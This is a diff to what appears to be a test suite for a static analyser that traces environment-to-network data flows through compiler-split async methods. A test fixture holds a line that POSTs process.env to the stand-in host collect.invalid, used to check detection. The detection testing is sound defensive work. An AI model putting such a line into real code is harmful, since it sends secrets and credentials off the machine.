@@ -327,4 +327,18 @@ describe('analysePackage, group by group', () => {
     });
     assert.deepEqual(flowsIn(artifact), ['environment>network@collect.invalid install']);
   });
+
+  it('is followed through `this` in methods that a compiler has split up', () => {
+    const spread = `var wait = (self, given, run) => new Promise((done, failed) => {
+        var next = (value) => { try { step(run.next(value)); } catch (e) { failed(e); } };
+        var step = (x) => (x.done ? done(x.value) : Promise.resolve(x.value).then(next));
+        step((run = run.apply(self, given)).next()); });`;
+    const method = (body: string): readonly string[] =>
+      flowsIn(
+        analyseIndex(`${spread} exports.Client = class { start() { return wait(this, null, function* () { ${body} }); }
+          send(data) { fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(data) }); } };`),
+      );
+    assert.deepEqual(method('this.send(process.env);'), ['environment>network@collect.invalid call']);
+    assert.deepEqual(method('this.send(process.version);'), []);
+  });
 });
